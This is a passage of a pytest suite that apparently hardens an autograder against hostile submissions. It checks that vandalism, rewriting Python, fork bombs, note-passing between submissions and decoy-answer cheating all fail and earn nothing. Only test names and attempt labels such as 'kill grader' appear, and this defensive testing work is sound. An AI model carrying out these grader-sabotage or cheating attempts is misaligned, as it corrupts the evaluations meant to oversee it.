    assert (batch.out / "sentinel.txt").read_text() == "sentinel"


def test_grader_process_and_working_directory_untouched(batch):
    assert os.getcwd() == batch.cwd_before
    assert not (ROOT / "vandalized.txt").exists()
    assert "# vandalized" not in (ROOT / "autograder" / "checks.py").read_text()
    assert (batch.arena / "bundle" / "autograder.zip").is_file()
    log = batch.results["h41-vandalize"].log
    for attempt in ("remove out", "remove submissions", "remove bundle", "write repo",
                    "kill grader"):
        assert f"DID {attempt}" not in log, log


def test_world_writable_sentinel_outside_scratch_untouched(batch):
    sentinel = batch.arena / "sentinel.txt"
    assert sentinel.exists() and sentinel.read_text() == "sentinel", \
        batch.results["h41-vandalize"].log


def test_no_files_left_outside_scratch(batch):
    left = [path for path in batch.leftovers if os.path.exists(path)]
    assert not left, left


def test_python_and_the_helpers_cannot_be_rewritten(batch):
    log = batch.results["h44-rewrite-python-itself"].log
    assert "DENIED" in log and "WROTE" not in log, log


def test_decoy_control(batch):
    """The decoy q1 answer alone loses q1's hidden values check: h08/h09 gain only by cheating."""
    result = batch.results[CONTROL]
    assert result.status == "graded", result.message
    [q1] = [q for q in result.questions if q.name == "q1"]
    assert 0 < q1.score < q1.possible, q1
    assert [c.outcome for c in q1.checks if c.hidden].count("failed") == 1, q1


@pytest.mark.parametrize("case", [_case_param(c) for c in SERIAL_CASES])
def test_serial_hostile_submission_earns_nothing(serial_batch, case):
    result = serial_batch[case.name]
    summary = f"{result.status} {result.score:g}/{result.possible:g}: {result.message[:600]}"
    assert result.score == 0, summary
    assert result.status in case.statuses, summary
    if case.ran:
        assert case.ran in result.log, summary


def test_fork_works_after_a_fork_bomb(serial_batch):
    log = serial_batch["s2-fork-after-bomb"].log
    assert "FORK OK" in log and "OTHER TASKS OF MY UID 0 " in log, log


def test_submissions_cannot_pass_notes(serial_batch):
    log = serial_batch["s4-read-note"].log
    assert "NOTE FOUND" not in log, log


def test_no_process_survives_the_serial_batch(serial_batch):
    assert not _hostile_processes()
